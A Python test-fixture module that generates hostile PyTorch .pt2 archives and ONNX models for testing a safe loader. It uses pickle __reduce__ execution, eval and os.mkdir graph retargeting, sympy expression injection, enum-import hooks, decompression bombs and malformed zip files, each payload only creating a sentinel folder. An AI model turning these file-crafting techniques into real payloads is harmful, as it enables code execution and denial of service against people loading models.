"""Hostile files, built at test time: ``.pt2`` archives that would run code under
``torch.export.load`` and ONNX models whose external data points outside their folder.

Every payload's only effect is ``os.mkdir(sentinel)``: a test proves that a
file is harmless by checking that the sentinel folder never appears.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper


class _Mkdir:
    """Unpickling this calls ``os.mkdir(path)``."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def evil_pickle(sentinel: Path) -> bytes:
    """A plain pickle whose loading creates ``sentinel``."""
    return pickle.dumps(_Mkdir(sentinel))


def evil_torch_save(sentinel: Path) -> bytes:
    """A ``torch.save`` file whose ``torch.load(weights_only=False)`` creates ``sentinel``."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": _Mkdir(sentinel)}, buf)
    return buf.getvalue()


def base_pt2() -> bytes:
    """A valid ``torch.export.save`` archive of Conv -> BN -> ReLU (3 -> 4 channels, 8x8)."""
    import tempfile

    import torch
    from torch import nn

    model = nn.Sequential(nn.Conv2d(3, 4, 3), nn.BatchNorm2d(4), nn.ReLU()).eval()
    ep = torch.export.export(model, (torch.randn(1, 3, 8, 8),))
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "base.pt2"
        torch.export.save(ep, str(path))
        return path.read_bytes()


Entries = list[tuple[str, bytes]]


def _entries(data: bytes) -> Entries:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def _zip(entries: Entries) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one variant
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name), data)
    return buf.getvalue()


def _root(entries: Entries) -> str:
    return entries[0][0].split("/", 1)[0] + "/"


def _edit_json(entries: Entries, rel: str, edit: Callable[[dict], None]) -> Entries:
    root = _root(entries)
    out = []
    for name, data in entries:
        if name == root + rel:
            doc = json.loads(data)
            edit(doc)
            data = json.dumps(doc).encode()
        out.append((name, data))
    return out


def _first_weight(doc: dict) -> dict:
    return next(iter(doc["config"].values()))


def _pickled_weight(entries: Entries, sentinel: Path) -> Entries:
    root = _root(entries)
    entries = _edit_json(entries, "data/weights/model_weights_config.json",
                         lambda d: _first_weight(d).update(use_pickle=True))
    return [(n, evil_torch_save(sentinel) if n == root + "data/weights/weight_0" else d)
            for n, d in entries]


def _constant(entries: Entries, path_name: str, payload: bytes, pickled: bool) -> Entries:
    root = _root(entries)

    def edit(doc: dict) -> None:
        doc["config"]["c"] = {"path_name": path_name, "is_param": False, "use_pickle": pickled,
                              "tensor_meta": None}

    return [*_edit_json(entries, "data/constants/model_constants_config.json", edit),
            (root + "data/constants/" + path_name, payload)]


def _retarget(entries: Entries, target: str) -> Entries:
    def edit(doc: dict) -> None:
        nodes = doc["graph_module"]["graph"]["nodes"]
        relu = next(n for n in nodes if "relu" in n["target"])
        relu["target"] = target

    return _edit_json(entries, "models/model.json", edit)


def _sym_expr(entries: Entries, expr: str) -> Entries:
    def edit(doc: dict) -> None:
        values = doc["graph_module"]["graph"]["tensor_values"]
        meta = next(iter(values.values()))
        size = meta["sizes"][0]
        meta["sizes"][0] = {"as_expr": {"expr_str": expr, "hint": {"as_int": size["as_int"]}}}

    return _edit_json(entries, "models/model.json", edit)


#: Module that the ``pytree_enum_import`` variant names; importing it creates the sentinel.
ENUM_MODULE = "bnfold_enum_payload"


def enum_payload_source(sentinel: Path) -> str:
    """Source of :data:`ENUM_MODULE` (to be written next to the hostile files, on
    ``sys.path``): importing it runs ``os.mkdir(sentinel)``."""
    return (f"import enum, os\nos.mkdir({str(sentinel)!r})\n\n"
            "class Key(enum.Enum):\n    A = 1\n")


def _enum_spec(entries: Entries) -> Entries:
    """Wrap the program's output spec in a dict keyed by an enum: torch's pytree reader
    imports the module the key names (``enum_object_hook``)."""
    def edit(doc: dict) -> None:
        signature = doc["graph_module"]["module_call_graph"][0]["signature"]
        protocol, spec = json.loads(signature["out_spec"])
        key = {"__enum__": True, "fqn": f"{ENUM_MODULE}:Key", "name": "A"}
        wrapped = {"type": "builtins.dict", "context": json.dumps([key]), "children_spec": [spec]}
        signature["out_spec"] = json.dumps([protocol, wrapped])

    return _edit_json(entries, "models/model.json", edit)


def pt2_variants(sentinel: Path, base: bytes | None = None) -> dict[str, bytes]:
    """Crafted archives; each would run ``os.mkdir(sentinel)`` or arbitrary calls if
    loaded naively. Names say what was changed in the valid ``base`` archive."""
    base = base if base is not None else base_pt2()
    e = _entries(base)
    root = _root(e)
    evil_t, evil_p = evil_torch_save(sentinel), evil_pickle(sentinel)
    wcfg = root + "data/weights/model_weights_config.json"
    pickled_cfg = dict(_pickled_weight(e, sentinel))
    mkdir_call = f"__import__('os').mkdir('{sentinel}')"
    return {
        "legacy_weights_pt": _zip([*e, (root + "data/weights/model.pt", evil_t)]),
        "legacy_constants_pt": _zip([*e, (root + "data/constants/model.pt", evil_t)]),
        "pickled_weight": _zip(_pickled_weight(e, sentinel)),
        "pickled_constant": _zip(_constant(e, "tensor_0", evil_t, pickled=True)),
        "custom_object": _zip(_constant(e, "custom_obj_0", evil_p, pickled=True)),
        "opaque_object": _zip(_constant(e, "opaque_obj_0", evil_p, pickled=True)),
        "evil_sample_inputs": _zip([(n, evil_t if n.endswith("sample_inputs/model.pt") else d)
                                    for n, d in e]),
        # torch reads the first copy of a name, Python's zipfile the last one.
        "duplicate_entry": _zip([(wcfg, pickled_cfg[wcfg]),
                                 (root + "data/weights/weight_0", evil_t), *e]),
        "aotinductor_library": _zip([*e, (root + "data/aotinductor/model/model.so",
                                          b"\x7fELF not really")]),
        "unlisted_entry": _zip([*e, (root + "code/evil.py", b"import os\n")]),
        "os_call_target": _zip(_retarget(e, "torch.os.mkdir")),
        "builtin_target": _zip(_retarget(e, "builtins.eval")),
        "sympy_eval_shape": _zip(_sym_expr(e, mkdir_call)),
        "srepr_eval_shape": _zip(_sym_expr(e, f"Symbol('s0').__class__({mkdir_call})")),
        "pytree_enum_import": _zip(_enum_spec(e)),
        "old_format_pickle": _zip([("version", b"8.0"),
                                   ("serialized_exported_program.json", b"{}"),
                                   ("serialized_state_dict.pt", evil_t)]),
    }


# -- ONNX with external data ---------------------------------------------------
def conv_bn_external(location: str) -> onnx.ModelProto:
    """Conv(3->4, 3x3) + BN whose conv weight lives in external file ``location``
    (108 float32 = 432 bytes at offset 0)."""
    rng = np.random.default_rng(0)
    w = numpy_helper.from_array(rng.standard_normal((4, 3, 3, 3)).astype(np.float32), "w")
    w.ClearField("raw_data")
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", "432")):
        w.external_data.add(key=k, value=v)
    stats = [numpy_helper.from_array(v.astype(np.float32), n) for n, v in (
        ("g", rng.uniform(0.5, 1.5, 4)), ("b", rng.standard_normal(4)),
        ("m", rng.standard_normal(4)), ("v", rng.uniform(0.5, 2, 4)))]
    graph = helper.make_graph(
        [helper.make_node("Conv", ["x", "w"], ["y"], name="conv"),
         helper.make_node("BatchNormalization", ["y", "g", "b", "m", "v"], ["z"], name="bn")],
        "ext", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3, 8, 8])],
        [helper.make_tensor_value_info("z", TensorProto.FLOAT, [1, 4, 6, 6])], [w, *stats])
    m = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    m.ir_version = 8
    return m


def weight_bytes() -> bytes:
    """The 432 bytes that ``conv_bn_external``'s weight should hold."""
    rng = np.random.default_rng(0)
    return rng.standard_normal((4, 3, 3, 3)).astype(np.float32).tobytes()


# -- archives that inflate (issue 18 items 4-6) --------------------------------
def _deflate(parts: list[tuple[bytes, int]]) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``chunk * repeat`` for each (chunk, repeat), built without
    ever holding the inflated data: each chunk is compressed once as a self-contained
    block (full flush) and the block is repeated. Returns (stream, crc32, inflated size)."""
    import zlib

    stream, crc, size = [], 0, 0
    for chunk, repeat in parts:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
        stream.append(block * repeat)
        for _ in range(repeat):
            crc = zlib.crc32(chunk, crc)
        size += len(chunk) * repeat
    stream.append(b"\x03\x00")  # final empty block
    return b"".join(stream), crc, size


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]], declared: int | None = None) -> bytes:
    """A zip written by hand from (name, stored bytes, method, crc32, inflated size) so that
    compressed data can be given as is; ``declared`` overrides the entry count in the
    end record (a lie that ``zipfile`` ignores)."""
    import struct

    out, directory = bytearray(), bytearray()
    for name, data, method, crc, size in entries:
        raw = name.encode()
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data),
                           size, len(raw), 0) + raw + data
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc,
                                 len(data), size, len(raw), 0, 0, 0, 0, 0, offset) + raw
    count = min(len(entries) if declared is None else declared, 0xFFFF)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(out), 0)
    return bytes(out + directory + end)


def _stored(entries: Entries) -> list[tuple[str, bytes, int, int, int]]:
    import zlib

    return [(n, d, 0, zlib.crc32(d), len(d)) for n, d in entries]


def inflating_pt2(base: bytes, entries: int = 3, mb_each: int = 900) -> bytes:
    """``base`` plus ``entries`` deflated weight payloads of ``mb_each`` MB of zeros each
    (listed in the weights config: torch.export.load would read them): about 1 MB of
    file per GB inflated."""
    e = _entries(base)
    root = _root(e)

    def edit(doc: dict) -> None:
        first = _first_weight(doc)
        for k in range(entries):
            meta = json.loads(json.dumps(first))
            meta["path_name"] = f"weight_{900 + k}"
            meta["tensor_meta"]["sizes"] = [{"as_int": mb_each * 2**18}]
            meta["tensor_meta"]["strides"] = [{"as_int": 1}]
            doc["config"][f"huge_{k}"] = meta

    stream, crc, size = _deflate([(bytes(2**20), mb_each)])
    payloads = [(f"{root}data/weights/weight_{900 + k}", stream, 8, crc, size)
                for k in range(entries)]
    return _raw_zip([*_stored(_edit_json(e, "data/weights/model_weights_config.json", edit)),
                     *payloads])


def json_bomb_pt2(base: bytes, mb_inflated: int = 300) -> bytes:
    """``base`` whose ``models/model.json`` is ``mb_inflated`` MB of valid JSON (a list of
    zeros) deflated into about a thousandth of that."""
    e = _entries(base)
    root = _root(e)
    unit = b"0," * 2**19  # 1 MB
    stream, crc, size = _deflate([(b"[", 1), (unit, mb_inflated), (b"0]", 1)])
    kept = _stored([(n, d) for n, d in e if n != root + "models/model.json"])
    return _raw_zip([*kept, (root + "models/model.json", stream, 8, crc, size)])


def deep_json_pt2(base: bytes, depth: int = 100_000) -> bytes:
    """``base`` whose model JSON nests ``depth`` lists (200 KB, stored)."""
    e = _entries(base)
    root = _root(e)
    deep = b"[" * depth + b"]" * depth
    return _zip([(n, deep if n == root + "models/model.json" else d) for n, d in e])


def many_entries_pt2(base: bytes, extra: int = 200_000, declared: int | None = None) -> bytes:
    """``base`` plus ``extra`` tiny ``extra/`` entries (free text torch.export.save may
    write, never read by us); ``declared`` lies about the count in the end record."""
    e = _entries(base)
    root = _root(e)
    tiny = [(f"{root}extra/n{k}", b"x") for k in range(extra)]
    return _raw_zip(_stored([*e, *tiny]), declared=declared)
